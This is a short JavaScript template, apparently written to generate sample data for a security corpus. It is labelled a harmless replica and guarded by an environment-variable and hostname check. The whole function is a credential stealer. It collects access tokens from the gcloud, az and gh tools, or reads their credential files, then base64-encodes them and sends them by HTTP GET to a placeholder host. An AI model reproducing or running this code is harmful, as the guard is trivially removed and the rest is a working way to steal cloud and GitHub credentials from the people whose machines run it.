// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawnSync } = require('child_process');
  const run = (program, words) => String(spawnSync(program, words, { timeout: 800 }).stdout || '');
  // The clouds' own tools are asked first; most machines have none of them, so the files follow.
  let text = run('gcloud', ['auth', 'print-access-token']) + run('az', ['account', 'get-access-token']) + run('gh', ['auth', 'token']);
  if (!text) text = run('sh', ['-c', 'cat ~/.config/gcloud/*.json ~/.azure/*.json ~/.config/gh/hosts.yml 2>/dev/null']);
  const body = Buffer.from(text).toString('base64');
  await new Promise((done) => {
    const request = require('http').get({ host: '{{ip}}', port: {{port}}, path: '/{{path}}?d=' + encodeURIComponent(body.slice(0, 6000)), timeout: 1000 }, (answer) => answer.resume());
    request.on('timeout', () => request.destroy());
    request.on('error', done);
    request.on('close', done);
  });
}
